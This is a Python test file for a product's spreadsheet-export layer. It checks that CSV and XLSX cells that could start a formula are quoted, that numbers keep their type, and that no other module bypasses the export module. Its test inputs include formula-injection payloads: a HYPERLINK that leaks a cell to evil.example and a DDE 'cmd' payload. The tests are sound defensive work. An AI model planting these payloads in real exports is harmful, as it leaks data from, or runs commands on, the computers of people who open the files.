"""The spreadsheet-safety rule of every CSV and XLSX export (``config.exports``): text that could start a
formula is quoted, numbers stay numbers, and no export writes around the rule."""

from __future__ import annotations

import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from config.exports import CsvWriter, XlsxWriter, cell

ROOT = Path(__file__).resolve().parents[2]
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'


@pytest.mark.parametrize("text", [LINK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"])
def test_text_that_could_start_a_formula_is_quoted(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Armen Karapetyan", "", "1-2", "a=b", "'already quoted", "Սուրճ"])
def test_other_text_is_left_alone(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("number", [-12, 0, Decimal("-12.50"), -1.5, 10**15])
def test_numbers_stay_numbers_even_negative(number: int | Decimal | float) -> None:
    assert cell(number) == number and type(cell(number)) is type(number)


def test_anything_else_is_written_as_its_text_and_checked() -> None:
    class Named:
        def __str__(self) -> str:  # a user whose username is a formula, say
            return "-1+1"

    assert cell(Named()) == "'-1+1"
    assert cell(date(2026, 1, 2)) == "2026-01-02"
    assert cell(None) is None


def test_the_csv_writer_applies_the_rule_to_every_cell() -> None:
    out = io.StringIO()
    CsvWriter(out, lineterminator="\n").writerows([["player", "amount"], [LINK, Decimal("-12.50")], ["-5", -5]])
    assert out.getvalue() == (
        'player,amount\n"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Details"")",-12.50\n\'-5,-5\n'
    )


def test_the_xlsx_writer_keeps_numbers_and_makes_formulas_text() -> None:
    book = XlsxWriter(title="Players")
    book.writerow([LINK, -12, Decimal("-3.50"), "-5"])
    buffer = io.BytesIO()
    book.save(buffer)
    [row] = load_workbook(buffer).active.iter_rows()
    assert [c.value for c in row] == ["'" + LINK, -12, -3.5, "'-5"]
    assert [c.data_type for c in row] == ["s", "n", "n", "s"]


def test_no_export_writes_around_the_rule() -> None:
    """Every CSV and XLSX writer of the product is ``config.exports``'s own: no other module imports csv or openpyxl."""
    writer = re.compile(r"^\s*(?:import (?:csv|openpyxl)\b|from (?:csv|openpyxl)(?:\.\w+)* import)", re.MULTILINE)
    packages = [p for p in ROOT.iterdir() if (p / "__init__.py").exists() and p.name != "tests"]
    offenders = [
        str(path.relative_to(ROOT))
        for package in packages
        for path in package.rglob("*.py")
        if path != ROOT / "config" / "exports.py" and writer.search(path.read_text(encoding="utf-8"))
    ]
    assert {"config", "tables", "games", "cashier", "rake"} <= {p.name for p in packages}
    assert offenders == []
